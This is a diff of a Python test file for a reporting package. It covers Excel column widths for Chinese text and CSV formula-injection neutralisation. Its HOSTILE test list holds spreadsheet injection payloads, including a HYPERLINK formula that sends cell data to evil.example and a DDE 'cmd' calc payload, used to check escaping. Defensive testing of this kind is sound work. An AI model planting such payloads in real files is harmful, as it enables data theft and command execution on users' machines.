@@ -9,12 +9,14 @@ import io
 import re
 from datetime import date, datetime
 
+import unicodedata
+
 import openpyxl
 import polars as pl
 import pytest
 
 from attribution.review import write_review_queue
-from reports.excel import Sheet, column_widths, display_width, neutralise, write_people_csv, write_workbook
+from reports.excel import Sheet, write_people_csv, write_workbook
 from reports.rankings import build_rankings, write_rankings
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
@@ -36,6 +38,11 @@ def assert_people_csv(path) -> None:
     bad = [cell for row in rows for cell in row
            if cell.startswith(FORMULA_START) and not re.fullmatch(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", cell)]
     assert not bad, f"{path.name}: formula-like cells {bad[:3]}"
+
+
+def display_width(text: str) -> int:
+    """Columns ``text`` takes in a monospaced grid: East Asian wide/full-width count two."""
+    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)
 
 
 def _shown_width(value) -> int:
@@ -71,22 +78,20 @@ def assert_workbook_for_people(path, *, min_rows: int = 1) -> openpyxl.Workbook:
     return wb
 
 
-def test_display_width_counts_wide_characters_twice():
-    assert display_width("思明区") == 6 and display_width("A1") == 2 and display_width("ＡＢ") == 4
-    assert display_width("厦门市 Xiamen") == 13
+def test_column_widths_fit_chinese_names(tmp_path):
+    frame = pl.DataFrame({"区": ["思明区", "海沧区"], "小区名称": ["鹭江道滨海花园小区", "A"],
+                          "地址": ["厦门市 Xiamen", "ＡＢ"]})
+    ws = openpyxl.load_workbook(write_workbook(tmp_path / "w.xlsx", [Sheet("s", frame)])).active
+    # the issue: the 区 column was 4.4 wide; text + 2 (xlsxwriter stores a few pixels more)
+    assert [int(ws.column_dimensions[c].width) for c in "ABC"] == [8, 20, 15]
 
 
-def test_column_widths_fit_chinese_names():
-    frame = pl.DataFrame({"区": ["思明区", "海沧区"], "小区名称": ["鹭江道滨海花园小区", "A"]})
-    assert column_widths(frame) == [8.0, 20.0]  # the issue: the 区 column was 4.4 wide
-
-
-def test_neutralise_prefixes_formula_cells_only():
+def test_people_csv_prefixes_formula_cells_only(tmp_path):
     frame = pl.DataFrame({"t": HOSTILE + ["正常文本", None], "n": list(range(-4, 4))})
-    out = neutralise(frame)
-    assert out["t"].to_list()[:6] == ["'" + v for v in HOSTILE]
-    assert out["t"][6] == "正常文本" and out["t"][7] is None
-    assert out["n"].to_list() == list(range(-4, 4)), "numbers stay numbers"
+    back = pl.read_csv(write_people_csv(frame, tmp_path / "t.csv"))
+    assert back["t"].to_list()[:6] == ["'" + v for v in HOSTILE]
+    assert back["t"][6] == "正常文本" and back["t"][7] is None
+    assert back["n"].to_list() == list(range(-4, 4)), "numbers stay numbers"
 
 
 def test_review_queue_csv_neutralises_hostile_cells(tmp_path):
